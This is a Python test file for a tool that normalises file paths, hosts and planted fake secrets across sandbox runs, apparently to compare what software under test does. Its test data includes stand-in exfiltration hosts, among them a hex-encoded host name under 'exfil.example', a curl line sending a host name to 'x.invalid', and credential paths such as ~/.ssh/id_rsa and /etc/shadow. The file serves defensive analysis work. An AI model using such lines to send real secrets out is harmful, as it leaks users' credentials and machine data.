# SPDX-License-Identifier: Apache-2.0
"""What two runs' names are without what is invented, counted or drawn by lot."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fpbox.compare.shapes import Place, Plain, host_shape, owner, shape
from fpbox.machine import BUILT_IN, Machine, Planted


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("/tmp/tmp.aB3xY9qQ12/x", "/tmp/tmp.ZZ8hUi0aaB/x"),
        ("/tmp/npm-a81bc0fe/x", "/tmp/npm-93ffee01/x"),
        ("/tmp/buildXyZabc", "/tmp/buildQrStuv"),
        ("/tmp/bhwkplg/1", "/tmp/bPUbOkH/2"),
        ("/c/01/4f/b9/1444986cb364639b29b0c4a3", "/c/5e/d5/ab/990f0499dc132ecbbce9ae9e"),
        ("/tmp/tmpabcdefgh", "/tmp/tmp_x1y2z3q"),
        ("/var/tmp/pip-build-env-0a_b1c2d/x.py", "/var/tmp/pip-build-env-9x8w7v6u/x.py"),
        ("./node_modules/.dep-Ab3dEf12", "./node_modules/.dep-Zz9yXw01"),
        ("./cache/0f1e2d3c4b5a", "./cache/99aabbccdd00"),
        ("./__pycache__/m.cpython-311.pyc.139871", "./__pycache__/m.cpython-311.pyc.7712"),
        ("./k3j5h2kj5h2k3j5h23.log", "./a9s8d7f6a9s8d7f6a9.log"),
        ("tcp://127.0.0.1:40123", "tcp://127.0.0.1:51234"),
        ("./log-2026-11-24T10:11:12.123Z", "./log-2026-11-24T10:11:13.9Z"),
    ],
)
def test_names_that_differ_by_lot_only_are_the_same(one: str, other: str) -> None:
    assert shape(one) == shape(other)


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("~/.ssh/id_rsa", "~/.ssh/known_hosts"),
        ("/etc/passwd", "/etc/shadow"),
        ("/tmp/run.sh", "/tmp/stop.sh"),
        ("/usr/bin/curl", "/usr/bin/wget"),
        ("./README.md", "./LICENSE.md"),
        ("/tmp/evil-a8b7/x", "/tmp/good-a8b7/x"),
    ],
)
def test_names_that_were_chosen_are_not(one: str, other: str) -> None:
    assert shape(one) != shape(other)


@given(st.text(max_size=300))
def test_a_shape_has_no_shape_but_itself(text: str) -> None:
    assert shape(shape(text)) == shape(text)


@pytest.mark.parametrize(
    ("host", "whose", "looks"),
    [
        ("collector.invalid", "collector.invalid", "collector.invalid"),
        ("6c656e612d7831.exfil.example", "exfil.example", "#.exfil.example"),
        ("{host_name}.x.exfil.example", "exfil.example", "#.x.exfil.example"),
        ("a1b2c3d4e5f60718.b1b2c3d4e5f60718.exfil.example", "exfil.example", "#.exfil.example"),
        ("api.exfil.example", "exfil.example", "api.exfil.example"),
        ("240.0.0.1", "240.0.0.1", "240.0.0.1"),
        ("2600:1f18::1", "2600:1f18::1", "2600:1f18::1"),
    ],
)
def test_a_host_is_known_by_whose_it_is(host: str, whose: str, looks: str) -> None:
    assert (owner(host), host_shape(host)) == (whose, looks)


def plain(persona: str, seed: str, project: str = "webapp") -> Plain:
    machine = Machine.make(seed, BUILT_IN[persona], int(time.time()), project)
    home = f"/home/{machine.user}"
    workdir = machine.workdir.replace("~", home) or f"{home}/{project}"
    return Plain(Place(home, workdir, machine.values))


@pytest.mark.parametrize("persona", list(BUILT_IN))
def test_what_was_invented_for_a_run_is_called_by_its_kind(persona: str) -> None:
    machine = Machine.make("s", BUILT_IN[persona], int(time.time()), "webapp")
    one = plain(persona, "s")
    home = f"/home/{machine.user}"
    assert one.path(f"{home}/.ssh/id_ed25519") == "~/.ssh/id_ed25519"
    assert one.text(f"curl http://x.invalid/{machine.host_name}") == "curl http://x.invalid/{host_name}"
    assert one.text(machine.host_name.encode().hex()) == "{host_name}"
    token = next(each for each in machine.values if each.kind == "npm_token")
    assert one.text(f"x/{token.value.hex()}") == "x/{npm_token}"
    assert one.text(f"x/{token.value.decode()}") == "x/{npm_token}"
    assert one.path(f"/srv/{machine.who.machine_id}/x") == "/srv/{machine_id}/x"
    assert one.path(f"/var/mail/{machine.user}") == "/var/mail/{user_name}"


def test_the_project_is_the_same_wherever_it_lies() -> None:
    assert plain("developer", "s")._workdir != plain("ci", "s")._workdir
    for persona in BUILT_IN:
        one = plain(persona, "s")
        assert one.path(f"{one._workdir}/node_modules/x/i.js") == "./node_modules/x/i.js"
        above = one._workdir.rpartition("/")[0]
        assert one.path(f"{above}/node_modules/x") == "above/node_modules/x"
        assert one.path(f"{above}/package.json") == "above/package.json"


def test_what_follows_from_the_time_zone_and_the_language_is_not_compared() -> None:
    one = Plain(Place("/home/lena", "/home/lena/app"))
    assert one.path("/usr/share/zoneinfo/Europe/Berlin") == ""
    assert one.path("/sys/devices/system/cpu/online") == ""
    assert one.path("/usr/lib/locale/de_DE.utf8/LC_CTYPE") == ""


def test_a_name_that_only_begins_like_the_home_directory_is_another() -> None:
    one = Plain(Place("/home/lena", "/home/lena/app"))
    assert one.path("/home/lena2/.ssh/id_rsa") == "/home/lena2/.ssh/id_rsa"
    assert one.path("/home/lena/application/x") == "~/application/x"


@given(st.binary(max_size=200), st.text(max_size=400))
def test_any_value_and_any_text_can_be_held_against_each_other(value: bytes, text: str) -> None:
    one = Plain(Place("/home/lena", "/home/lena/app", (Planted("odd", value, ""),)))
    assert isinstance(shape(one.text(text)), str)
